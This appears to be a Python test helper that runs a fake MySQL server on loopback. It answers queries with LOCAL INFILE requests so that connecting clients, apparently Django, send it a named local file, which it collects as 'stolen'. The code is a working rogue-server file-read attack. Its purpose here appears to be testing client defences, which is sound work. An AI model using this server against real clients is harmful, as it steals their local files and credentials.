"""A MySQL server that answers every query, or the n-th, by asking for a file of the client's."""

from __future__ import annotations

import socket
import struct
import threading
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager, suppress
from dataclasses import dataclass, field

# Of protocol 4.1: also files of the client's, plug-ins for authentication, secure passwords.
CAPABILITIES = 0x0008_FFFF | 0x0020_0000
LOGIN_IS_FINE = b"\x00\x00\x00\x02\x00\x00\x00"
COMMAND_QUIT, COMMAND_QUERY = 1, 3
# What Django asks of each server: version, mode, storage engine and three switches.
SERVER_DATA = (b"8.0.36", b"STRICT_ALL_TABLES", b"InnoDB", b"0", b"0", b"1")
END = b"\xfe\x00\x00\x02\x00"


@dataclass
class GreedyMySQL:
    """`wanted`: the file it asks for. `polite`: so many queries get an OK first, and after that
    each is answered with a request. `reported` are the queries, `stolen` what it was sent."""

    wanted: str
    polite: int = 0
    port: int = 0
    reported: list[str] = field(default_factory=list)
    stolen: list[bytes] = field(default_factory=list)
    requests: int = 0

    def serve(self, peer: socket.socket) -> None:
        plugin = b"mysql_native_password\0"
        send(
            peer,
            0,
            b"\x0a8.0.36\0"
            + struct.pack("<I", 7)
            + b"12345678\0"
            + struct.pack("<HBHHB", CAPABILITIES & 0xFFFF, 45, 2, CAPABILITIES >> 16, 21)
            + bytes(10)
            + b"123456789012\0"
            + plugin,
        )
        sequence, _ = receive(peer)
        send(peer, sequence + 1, LOGIN_IS_FINE)
        while True:
            sequence, command = receive(peer)
            if not command or command[0] == COMMAND_QUIT:
                return
            if command[0] == COMMAND_QUERY:
                self.reported.append(command[1:].decode(errors="replace"))
            if command[0] != COMMAND_QUERY or len(self.reported) <= self.polite:
                if b"@@sql_auto_is_null" in command:
                    answer(peer, sequence, SERVER_DATA)
                else:
                    send(peer, sequence + 1, LOGIN_IS_FINE)
                continue
            self.requests += 1
            send(peer, sequence + 1, b"\xfb" + self.wanted.encode())
            while True:
                sequence, piece = receive(peer)
                if not piece:
                    break
                self.stolen.append(piece)
            send(peer, sequence + 1, LOGIN_IS_FINE)


@contextmanager
def greedy_mysql(wanted: str, *, polite: int = 0) -> Iterator[GreedyMySQL]:
    """It, on a port of the loopback interface, for as many connections as come."""
    server = GreedyMySQL(wanted, polite)
    with ExitStack() as opened:
        listening = opened.enter_context(socket.create_server(("127.0.0.1", 0)))
        server.port = listening.getsockname()[1]

        def serve(peer: socket.socket) -> None:
            with suppress(OSError, EOFError):
                server.serve(peer)

        def accept() -> None:
            with suppress(OSError):
                while True:
                    peer, _ = listening.accept()
                    opened.callback(peer.close)
                    opened.callback(hang_up, peer)
                    threading.Thread(target=serve, args=[peer], daemon=True).start()

        threading.Thread(target=accept, daemon=True).start()
        opened.callback(hang_up, listening)
        yield server


def hang_up(peer: socket.socket) -> None:
    """Ends whoever waits for it."""
    with suppress(OSError):
        peer.shutdown(socket.SHUT_RDWR)


def send(peer: socket.socket, sequence: int, payload: bytes) -> None:
    peer.sendall(struct.pack("<I", len(payload))[:3] + bytes([sequence % 256]) + payload)


def answer(peer: socket.socket, sequence: int, row: tuple[bytes, ...]) -> None:
    """One row of texts."""
    named = b"\x03def\x00\x00\x00\x01c\x00\x0c"
    column = named + struct.pack("<HIBHB", 45, 255, 253, 0, 0) + bytes(2)
    values = b"".join(bytes([len(value)]) + value for value in row)
    for payload in (bytes([len(row)]), *[column] * len(row), END, values, END):
        sequence += 1
        send(peer, sequence, payload)


def receive(peer: socket.socket) -> tuple[int, bytes]:
    """A packet's number and payload. Raises EOFError when the client has gone."""
    head = exactly(peer, 4)
    return head[3], exactly(peer, int.from_bytes(head[:3], "little"))


def exactly(peer: socket.socket, size: int) -> bytes:
    read = b""
    while len(read) < size:
        more = peer.recv(size - len(read))
        if not more:
            raise EOFError
        read += more
    return read
